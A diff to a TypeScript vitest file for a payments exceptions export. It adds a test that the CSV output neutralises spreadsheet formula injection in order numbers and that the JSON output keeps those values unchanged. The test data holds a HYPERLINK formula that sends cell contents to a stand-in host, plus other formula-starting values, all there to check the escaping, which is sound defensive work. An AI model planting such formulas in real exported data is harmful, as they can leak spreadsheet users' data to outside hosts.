@@ -5,10 +5,12 @@
  */
 import { Writable } from 'node:stream';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { exportExceptions, queryExceptions } from '../../src/exceptions-export.js';
+import { exportExceptions, neutralizeFormula, queryExceptions } from '../../src/exceptions-export.js';
 import { createPool, type Pool } from '../../src/pool.js';
+import { parseSmallCsv } from '../../src/small-csv.js';
 import type { Store } from '../../src/store/store.js';
 import { generateChain, runDate } from '../helpers/chain.js';
+import { qrCredit, qrSale, Scenario } from '../helpers/scenario.js';
 import { storeCases } from '../helpers/stores.js';
 
 let pool: Pool;
@@ -87,6 +89,55 @@ for (const sc of storeCases()) {
           /--merchant 12x is not a merchant id/,
         );
         await expect(queryExceptions(store, { date, minAmount: -1 })).rejects.toThrow(/--min-amount must be/);
+      } finally {
+        await store.close();
+      }
+    });
+
+    it('neutralises spreadsheet formulas in text cells of the CSV (OWASP), and keeps JSON values as they are', async () => {
+      const store = await sc.open();
+      try {
+        // Order numbers as a terminal or an acquirer might send them: each starts a formula.
+        const orders = ['=HYPERLINK("http://x.example/?"&A1;"pay")', '+1+1', '-2+3', '@SUM(A1:A2)'];
+        const s = new Scenario(pool, {}, store);
+        s.journal(
+          '2026-11-16',
+          ...orders
+            .slice(0, 3)
+            .map((o, i) => qrSale({ stan: `00000${i}`, txn_time: '2026-11-16T10:00:00+08:00', order_no: o })),
+        );
+        s.clearing(
+          '2026-11-16',
+          ...orders.slice(3).map((o, i) =>
+            qrCredit({
+              stan: `00010${i}`,
+              txn_time: '2026-11-16T11:00:00+08:00',
+              settle_date: '2026-11-17',
+              order_no: o,
+            }),
+          ),
+        );
+        await s.run('2026-11-16', '2026-11-17', '2026-11-18');
+        const csv = (await exported(store, { date: '2026-11-18' }, 'csv')).trimEnd().split('\n');
+        const rows = parseSmallCsv(csv.join('\n')).map((r) => r.fields);
+        const at = rows[0]!.indexOf('order_no');
+        expect(
+          rows
+            .slice(1)
+            .map((r) => r[at])
+            .sort(),
+        ).toEqual(orders.map((o) => `'${o}`).sort());
+        // Tabs and carriage returns (which the scan rejects in an order number) are covered too.
+        expect(['\tx', '\rx', 'x=1', ''].map(neutralizeFormula)).toEqual(["'\tx", "'\rx", 'x=1', '']);
+        // Numbers stay numbers; JSON keeps the values.
+        expect(rows.slice(1).every((r) => /^\d+$/.test(r[rows[0]!.indexOf('journal_amount_minor')]! || '0'))).toBe(
+          true,
+        );
+        const json = (await exported(store, { date: '2026-11-18' }, 'json'))
+          .trimEnd()
+          .split('\n')
+          .map((l) => (JSON.parse(l) as { order_no: string }).order_no);
+        expect(json.sort()).toEqual([...orders].sort());
       } finally {
         await store.close();
       }
